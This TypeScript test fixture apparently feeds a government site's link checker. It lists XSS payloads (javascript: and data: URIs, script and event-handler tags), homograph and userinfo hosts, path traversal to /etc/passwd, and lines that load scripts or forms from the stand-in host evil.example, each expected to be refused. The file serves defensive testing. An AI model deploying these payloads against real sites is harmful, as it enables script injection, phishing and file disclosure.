// An outside tester's table of link and markup tricks, and of the ordinary links an office really
// writes, each with what must happen to it. links-adversarial.test.ts puts every row through the
// real content check (on a copy of the minimal fixture) and every body through the site's Markdown
// pipeline. Places:
//   body      Markdown appended to a service guide's body (content/services/S-001.md)
//   url       the guide's 网办地址 (onlineUrl), a URL field
//   siteUrl   site.yaml's 网站地址
//   text      the guide's 办理地点 (place), a free-text field: published as escaped text, never a link
//   file      a consultation draft's 附件 path (content/consultations/ZQ-001.md)
export type Place = 'body' | 'url' | 'siteUrl' | 'text' | 'file';

export interface LinkRow {
  /** What the tester tried, in their words. */
  name: string;
  place: Place;
  value: string;
  /** refused: the check stops the build naming the file, the line and the field; passes: published as written. */
  verdict: 'refused' | 'passes';
}

const ZW = '\u200b';

/** A row written into a body, as most of the table is. */
const body = (name: string, value: string, verdict: LinkRow['verdict']): LinkRow => ({ name, place: 'body', value, verdict });

/** Addresses that must never become a live link, each tried as a Markdown link in a body. */
const hostile: [name: string, address: string][] = [
  ['javascript: lower case', 'javascript:alert(1)'],
  ['JAVASCRIPT: upper case', 'JAVASCRIPT:alert(1)'],
  ['JaVaScRiPt: mixed case', 'JaVaScRiPt:alert(document.cookie)'],
  ['javascript: with a comment payload', 'javascript://comment%0Aalert(1)'],
  ['vbscript:', 'vbscript:msgbox(1)'],
  ['VBScript: mixed case', 'VBScript:msgbox(1)'],
  ['data: text/html base64', 'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='],
  ['DATA: upper case', 'DATA:text/html,<script>alert(1)</script>'],
  ['data: SVG image', 'data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+'],
  ['file: unix', 'file:///etc/passwd'],
  ['FILE: windows drive', 'FILE:///C:/Windows/win.ini'],
  ['ftp:', 'ftp://ftp.example.gov.cn/a.pdf'],
  ['irc: (GitHub’s sanitiser allows it)', 'irc://irc.example.org/chan'],
  ['xmpp: (GitHub’s sanitiser allows it)', 'xmpp:evil@example.org'],
  ['sms:', 'sms:10086?body=hi'],
  ['blob:', 'blob:https://evil.example/1234'],
  ['entity &#106;avascript:', '&#106;avascript:alert(1)'],
  ['entity &colon;', 'javascript&colon;alert(1)'],
  ['hex entities for the whole word', '&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;:alert(1)'],
  ['entity tab inside the scheme', 'java&#x09;script:alert(1)'],
  ['entity newline inside the scheme', 'java&#10;script:alert(1)'],
  ['entity zero-width space inside the scheme', 'java&#x200B;script:alert(1)'],
  ['percent-encoded tab inside the scheme', 'java%09script:alert(1)'],
  ['percent-encoded colon', 'javascript%3Aalert(1)'],
  ['percent-encoded first letter', '%6Aavascript:alert(1)'],
  ['percent-encoded zero-width space', 'java%E2%80%8Bscript:alert(1)'],
  ['full-width letters and colon', 'ｊａｖａｓｃｒｉｐｔ：alert(1)'],
  ['full-width letters, ASCII colon', 'ｊａｖａｓｃｒｉｐｔ:alert(1)'],
  ['ASCII letters, full-width colon', 'javascript：alert(1)'],
  ['full-width slashes //', '／／evil.example/x'],
  ['protocol-relative //', '//evil.example/x'],
  ['protocol-relative ///', '///evil.example/x'],
  ['backslashes \\\\host', '\\\\evil.example\\share'],
  ['http:\\\\host', 'http:\\\\evil.example'],
  ['https:/\\host', 'https:/\\evil.example'],
  ['/\\host (path-looking)', '/\\evil.example'],
  ['userinfo https://www.gov.cn@evil', 'https://www.gov.cn@evil.example/'],
  ['userinfo with password', 'https://admin:123456@www.example.gov.cn/'],
  ['Cyrillic о in gov', 'https://www.gоv.cn/'],
  ['Greek ο in gov', 'https://www.gοv.cn/'],
  ['punycode of the Cyrillic look-alike', 'https://www.xn--gv-jmc.cn/'],
  ['full-width letters in the host', 'https://ｗｗｗ.gov.cn/'],
  ['full-width dot in the host', 'https://www。gov。cn/'],
  ['gov.cn in the middle of another domain', 'https://www.gov.cn.evil.example/'],
  ['gov.cn in the middle, upper case, with a trailing dot', 'https://WWW.GOV.CN.evil.example./'],
  ['host without a dot', 'https://localhost/admin'],
  ['host with a comma and text after it', 'https://www.gov.cn，详见/'],
  ['https:// followed by nothing', 'https://'],
  ['https:/ single slash', 'https:/www.gov.cn'],
  ['https: no slashes', 'https:www.gov.cn'],
  ['mailto: without an address', 'mailto:'],
  ['mailto: with a script-looking address', 'mailto:javascript:alert(1)'],
  ['tel: with letters', 'tel:javascript:alert(1)'],
  ['tel: empty', 'tel:'],
];

/** The same kind of trick written in the other places a body can carry a link. */
const forms: [name: string, markdown: (address: string) => string][] = [
  ['inline link', (a) => `[点此办理](${a})`],
  ['image', (a) => `![图](${a})`],
  ['reference-style link', (a) => `[点此][ref]\n\n[ref]: ${a}`],
  ['raw <a href>', (a) => `<a href="${a}">点此</a>`],
];

const bodyRows: LinkRow[] = [
  ...hostile.map(([name, address]): LinkRow => ({ name: `body link: ${name}`, place: 'body', value: `[点此办理](${address.replace(/\\/g, '\\\\')})`, verdict: 'refused' })),
  // Each form with a handful of schemes.
  ...forms.flatMap(([form, make]) =>
    ['javascript:alert(1)', ' JavaScript:alert(1)', 'data:text/html,<b>x</b>', 'vbscript:msgbox(1)', '//evil.example/', 'https://www.gov.cn@evil.example/'].map(
      (address): LinkRow => ({ name: `${form}: ${JSON.stringify(address)}`, place: 'body', value: make(address), verdict: 'refused' }),
    ),
  ),
  body('autolink <javascript:…>', '<javascript:alert(1)>', 'refused'),
  body('autolink <JAVASCRIPT:…>', '<JAVASCRIPT:alert(1)>', 'refused'),
  body('autolink <data:…>', '<data:text/html,hi>', 'refused'),
  body('autolink <vbscript:…>', '<vbscript:msgbox(1)>', 'refused'),
  body('autolink <file:…>', '<file:///etc/passwd>', 'refused'),
  body('autolink with userinfo', '<https://www.gov.cn@evil.example/>', 'refused'),
  body('bare GFM address with userinfo', '详见 https://www.gov.cn@evil.example/ 网站', 'refused'),
  body('bare GFM address with a look-alike host', '详见 https://www.gоv.cn/ 网站', 'refused'),
  body('javascript: link in a table cell', '| 事项 | 链接 |\n| --- | --- |\n| 申请 | [办理](javascript:alert(1)) |', 'refused'),
  body('raw <a> in a table cell', '| 事项 | 链接 |\n| --- | --- |\n| 申请 | <a href="vbscript:msgbox(1)">办理</a> |', 'refused'),
  body('javascript: link in a footnote', '见注释[^1]。\n\n[^1]: 详见[此处](javascript:alert(1))。', 'refused'),
  body('link in a heading', '## [标题](javascript:alert(1))', 'refused'),
  body('link in a blockquote', '> [引用](data:text/html,hi)', 'refused'),
  body('link in a list item', '- 第一项\n- [第二项](vbscript:msgbox(1))', 'refused'),
  body('link inside emphasis', '**[加粗](javascript:alert(1))**', 'refused'),
  body('image inside a link', '[![图](javascript:alert(1))](/services/)', 'refused'),
  body('link title carrying a quote break-out', '[x](//evil.example "\\" onmouseover=\\"alert(1)")', 'refused'),
  body('link with a zero-width space before the scheme', `[x](${ZW}javascript:alert(1))`, 'refused'),
  body('link with a leading tab (angle brackets)', '[x](<\tjavascript:alert(1)>)', 'refused'),
  body('link with a trailing space (angle brackets)', '[x](<javascript:alert(1) >)', 'refused'),
  body('link with a control character', '[x](\u0001javascript:alert(1))', 'refused'),
  body('link to a page that does not exist', '[x](/no-such-page/)', 'refused'),
  body('relative link climbing out with ../', '[x](../../../../etc/passwd)', 'refused'),
  body('link with a broken percent escape', '[x](/services/%E0%A4%A)', 'refused'),
  // Raw HTML.
  body('<script>', '<script>alert(1)</script>', 'refused'),
  body('<SCRIPT> upper case with src', '<SCRIPT SRC="https://evil.example/x.js"></SCRIPT>', 'refused'),
  body('<script> inside a paragraph', '文字<script>alert(1)</script>文字', 'refused'),
  body('<iframe>', '<iframe src="https://evil.example/"></iframe>', 'refused'),
  body('<iframe srcdoc>', '<iframe srcdoc="<script>alert(1)</script>"></iframe>', 'refused'),
  body('<img onerror>', '<img src="x" alt="图" onerror="alert(1)">', 'refused'),
  body('<img onerror> unquoted', '<img src=x onerror=alert(1)>', 'refused'),
  body('<img src=javascript:>', '<img src="javascript:alert(1)" alt="图">', 'refused'),
  body('<img srcset=javascript:>', '<img src="/favicon.svg" srcset="javascript:alert(1) 2x" alt="图">', 'refused'),
  body('<a href=javascript:>', '<a href="javascript:alert(1)">点</a>', 'refused'),
  body('<a href> unquoted javascript:', '<a href=javascript:alert(1)>点</a>', 'refused'),
  body('<a href> entity-padded &#0000106', '<a href="&#0000106avascript:alert(1)">点</a>', 'refused'),
  body('<a href> with an entity newline', '<a href="jav&#x0A;ascript:alert(1)">点</a>', 'refused'),
  body('<a href> with leading spaces', '<a href="  JAVASCRIPT:alert(1)">点</a>', 'refused'),
  body('<a onclick>', '<a href="/services/" onclick="alert(1)">点</a>', 'refused'),
  body('<a target=_blank> (tab-nabbing)', '<a href="https://www.gov.cn/" target="_blank">点</a>', 'refused'),
  body('<svg onload>', '<svg onload="alert(1)"></svg>', 'refused'),
  body('<svg><a xlink:href>', '<svg><a xlink:href="javascript:alert(1)"><text>点</text></a></svg>', 'refused'),
  body('<math> with xlink:href', '<math><mi xlink:href="javascript:alert(1)">x</mi></math>', 'refused'),
  body('<style>', '<style>body{display:none}</style>', 'refused'),
  body('style attribute', '<p style="position:fixed;top:0">覆盖</p>', 'refused'),
  body('style with url(javascript:)', '<p style="background:url(javascript:alert(1))">样式</p>', 'refused'),
  body('<form action>', '<form action="https://evil.example/"><input name="id"></form>', 'refused'),
  body('<button formaction>', '<button formaction="javascript:alert(1)">提交</button>', 'refused'),
  body('<meta http-equiv=refresh>', '<meta http-equiv="refresh" content="0;url=https://evil.example/">', 'refused'),
  body('<base href>', '<base href="https://evil.example/">', 'refused'),
  body('<link rel=stylesheet>', '<link rel="stylesheet" href="https://evil.example/x.css">', 'refused'),
  body('<object data>', '<object data="data:text/html,<script>alert(1)</script>"></object>', 'refused'),
  body('<embed src>', '<embed src="javascript:alert(1)">', 'refused'),
  body('<details ontoggle>', '<details open ontoggle="alert(1)"><summary>展开</summary>内容</details>', 'refused'),
  body('<video poster onerror>', '<video poster="javascript:alert(1)" onerror="alert(2)"></video>', 'refused'),
  body('<input autofocus onfocus>', '<input autofocus onfocus="alert(1)">', 'refused'),
  body('<area href=vbscript:>', '<map name="m"><area href="vbscript:msgbox(1)"></map>', 'refused'),
  body('<body onload> (the HTML parser drops a second body: nothing is published)', '<body onload="alert(1)">', 'passes'),
  body('comment trick <!--><script>', '<!--><script>alert(1)</script>-->', 'refused'),
  body('<div> with a data- attribute', '<div data-x="1">块</div>', 'refused'),
  body('HTML id clobbering a global', '<a href="/services/" id="location">点</a>', 'passes'),
  body('<noscript> wrapper', '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>', 'refused'),
  body('<template> wrapper', '<template><script>alert(1)</script></template>', 'refused'),
];

/** Links an office really writes in a body, which must stay links. */
const ordinaryBody: LinkRow[] = [
  body('central government site', '[中国政府网](https://www.gov.cn/)', 'passes'),
  body('a policy page of gov.cn', '[政策文件](https://www.gov.cn/zhengce/content/2019-04/15/content_5382991.htm)', 'passes'),
  body('政务服务网 item with a query string and fragment', '[网上办理](https://zwfw.example.gov.cn/item?id=RF-XK-001&from=gongkai#apply)', 'passes'),
  body('政务服务网 with Chinese in the query', '[搜索](https://zwfw.example.gov.cn/search?q=人防工程&type=1)', 'passes'),
  body('政务服务网 search with a GBK-encoded query', '[检索](https://zwfw.example.gov.cn/search?q=%C8%CB%B7%C0)', 'passes'),
  body('http (not https) site of another office', '[市政府](http://www.example.gov.cn/)', 'passes'),
  body('Chinese domain name', '[政务服务](https://政务服务.中国/事项/人防)', 'passes'),
  body('a port number', '[内网](https://example.gov.cn:8443/path)', 'passes'),
  body('mailto: of the office', '[发邮件](mailto:office@example.gov.cn)', 'passes'),
  body('mailto: with a subject', '[来信](mailto:office@example.gov.cn?subject=信息公开申请)', 'passes'),
  body('autolink of the office mailbox', '<office@example.gov.cn>', 'passes'),
  body('tel: hotline 12345', '[12345 热线](tel:12345)', 'passes'),
  body('tel: with area code', '[咨询电话](tel:0999-12345678)', 'passes'),
  body('tel: international form', '[电话](tel:+86-999-12345678)', 'passes'),
  body('relative link to a list', '[服务指南](/services/)', 'passes'),
  body('relative link to an entry', '[本事项](/services/S-001/)', 'passes'),
  body('relative link without the trailing slash', '[服务指南](/services)', 'passes'),
  body('attachment of another entry, by its published address', '[征求意见稿](/files/consultations/files/zq-001.pdf)', 'passes'),
  body('a file under content/ that no entry attaches', '[文件](/files/consultations/files/other.pdf)', 'refused'),
  body('attachment address climbing out with ..', '[文件](/files/../site.yaml)', 'refused'),
  body('fragment on the same page', '[见下文](#办理流程)', 'passes'),
  body('autolink of a gov.cn address', '<https://www.gov.cn/>', 'passes'),
  body('bare GFM www. address', '详见 www.gov.cn 。', 'passes'),
  body('reference-style link to gov.cn', '[国务院][gwy]\n\n[gwy]: https://www.gov.cn/', 'passes'),
  body('政务服务网 link in a table cell', '| 事项 | 链接 |\n| --- | --- |\n| 申请 | [办理](https://zwfw.example.gov.cn/item?id=1) |', 'passes'),
  body('gov.cn link in a footnote', '依据[^1]。\n\n[^1]: 见[中国政府网](https://www.gov.cn/)。', 'passes'),
  body('everyday HTML: <sup>, <br>, <kbd>', '面积 100 m<sup>2</sup><br>按 <kbd>Enter</kbd> 确认', 'passes'),
  body('raw <a> to a site page', '<a href="/services/">服务指南</a>', 'passes'),
  body('raw <img> with alt', '<img src="/favicon.svg" alt="图标">', 'passes'),
  body('image of an attached file', '![标识](/files/files/conac.png)', 'passes'),
  body('image from another site (the CSP would not load it; a tracking pixel)', '![图](https://evil.example/pixel.gif)', 'refused'),
  body('raw <img> from another site', '<img src="http://evil.example/pixel.gif" alt="图">', 'refused'),
  body('link text showing www.gov.cn that leads elsewhere', '[www.gov.cn](https://evil.example/)', 'refused'),
  body('link text showing https://www.gov.cn/ that leads to gov.cn.evil.example', '[https://www.gov.cn/](https://gov.cn.evil.example/)', 'refused'),
  body('link text naming the very host it leads to', '[zwfw.example.gov.cn](https://zwfw.example.gov.cn/item?id=1)', 'passes'),
  body('link text naming gov.cn for a subdomain of it', '[gov.cn 上的政策库](https://www.gov.cn/zhengce/)', 'passes'),
  body('link to a loopback address', '[管理](http://127.0.0.1:8080/admin)', 'refused'),
  body('link to an intranet address', '[内网](http://10.1.2.3/oa/)', 'refused'),
  body('link to loopback written in hex', '[管理](http://0x7f.0.0.1/)', 'refused'),
  body('link to IPv6 loopback', '[管理](http://[::1]/)', 'refused'),
  body('raw <a> to a page that does not exist', '<a href="/no-such-page/">点此</a>', 'refused'),
  body('raw <img> of a file that is not published', '<p>图：<img src="/files/nowhere.png" alt="图"></p>', 'refused'),
  body('the word javascript: in plain text', '请勿点击以 javascript: 开头的链接。', 'passes'),
  body('HTML shown as code', '`<script>alert(1)</script>` 是示例代码', 'passes'),
];

const urlRows: LinkRow[] = [
  ...[
    'javascript:alert(1)', 'JaVaScRiPt:alert(1)', ' javascript:alert(1)', 'javascript:alert(1) ', 'java\tscript:alert(1)', 'java\nscript:alert(1)', `java${ZW}script:alert(1)`,
    '\u0001javascript:alert(1)', '&#106;avascript:alert(1)', 'javascript&colon;alert(1)', 'java%09script:alert(1)', 'ｊａｖａｓｃｒｉｐｔ：alert(1)', 'vbscript:msgbox(1)',
    'data:text/html,hi', 'file:///etc/passwd', '\\\\evil.example\\share', 'http:\\\\evil.example', '//evil.example/', 'https://www.gov.cn@evil.example/',
    'http://192.168.1.10/oa/', 'http://172.20.0.1/', 'https://[fd00::1]/',
    'https://www.gоv.cn/', 'https://www.xn--gv-jmc.cn/', 'https://ｗｗｗ.gov.cn/', 'https://www。gov。cn/', 'mailto:office@example.gov.cn', 'tel:12345', '/services/',
  ].map((value): LinkRow => ({ name: `网办地址 ${JSON.stringify(value)}`, place: 'url', value, verdict: 'refused' })),
  ...['https://zwfw.example.gov.cn/item?id=RF-XK-001&from=gongkai#apply', 'https://zwfw.example.gov.cn/search?q=%C8%CB%B7%C0', 'http://www.example.gov.cn/', 'https://政务服务.中国/事项/人防', 'https://www.xn--fiqs8s.cn/', 'https://WWW.GOV.CN/'].map(
    (value): LinkRow => ({ name: `网办地址 ${value}`, place: 'url', value, verdict: 'passes' }),
  ),
  { name: '网站地址 javascript:', place: 'siteUrl', value: 'javascript:alert(1)', verdict: 'refused' },
  { name: '网站地址 look-alike host', place: 'siteUrl', value: 'https://test.example.gоv.cn', verdict: 'refused' },
  { name: '网站地址 userinfo', place: 'siteUrl', value: 'https://test.example.gov.cn@evil.example', verdict: 'refused' },
  { name: '网站地址 plain http (the site is served over https)', place: 'siteUrl', value: 'http://test.example.gov.cn', verdict: 'refused' },
  { name: '网站地址 in capitals', place: 'siteUrl', value: 'HTTPS://TEST.EXAMPLE.GOV.CN', verdict: 'passes' },
];

/** Free text that carries an address: it is published as escaped text, so it is allowed. */
const textRows: LinkRow[] = [
  'javascript:alert(1)', '<a href="javascript:alert(1)">点此</a>', '[点此办理](javascript:alert(1))', '<script>alert(1)</script>', '<img src=x onerror=alert(1)>',
  'https://www.gov.cn@evil.example/', '政务服务中心（https://zwfw.example.gov.cn/item?id=1）',
].map((value): LinkRow => ({ name: `办理地点 ${JSON.stringify(value)}`, place: 'text', value, verdict: 'passes' }));

const fileRows: LinkRow[] = [
  ...['../../../../etc/passwd', '/etc/passwd', 'files/../../site.yaml', 'files/..%2f..%2fsite.yaml', 'javascript:alert(1)', 'https://evil.example/x.pdf', 'files\\zq-001.pdf', 'C:\\zq-001.pdf', 'files/zq-001.pdf\u0000.txt', '//evil.example/x.pdf', 'files/ｚｑ-001.pdf', 'files/zq-001.pdf.html'].map(
    (value): LinkRow => ({ name: `附件 ${JSON.stringify(value)}`, place: 'file', value, verdict: 'refused' }),
  ),
  { name: '附件 files/zq-001.pdf (as written in the fixture)', place: 'file', value: 'files/zq-001.pdf', verdict: 'passes' },
];

export const rows: LinkRow[] = [...bodyRows, ...ordinaryBody, ...urlRows, ...textRows, ...fileRows];
